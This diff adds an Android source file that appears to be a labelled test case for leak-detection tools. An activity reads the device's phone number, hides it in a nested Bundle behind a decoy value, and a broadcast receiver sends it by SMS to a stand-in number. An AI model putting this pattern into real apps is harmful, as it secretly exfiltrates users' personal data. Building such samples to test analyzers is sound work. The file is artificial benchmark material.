@@ -1,0 +1,35 @@
+// about       A bundle inside the extras holds the number under the key that the receiver reads.
+// leak        PHONE_NUMBER sms
+// receiver    cn.example.flow.MainActivity$Mail
+package cn.example.flow;
+
+import android.app.Activity;
+import android.content.BroadcastReceiver;
+import android.content.Context;
+import android.content.Intent;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class MainActivity extends Activity {
+  @Override
+  protected void onResume() {
+    super.onResume();
+    String number = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
+    Bundle inner = new Bundle();
+    Intent intent = new Intent(this, Mail.class);
+    // One key on two floors.
+    inner.putString("text", number);
+    intent.putExtra("text", "hello");
+    intent.putExtra("inner", inner);
+    sendBroadcast(intent);
+  }
+
+  public static class Mail extends BroadcastReceiver {
+    @Override
+    public void onReceive(Context context, Intent intent) {
+      String text = intent.getBundleExtra("inner").getString("text");
+      SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
+    }
+  }
+}
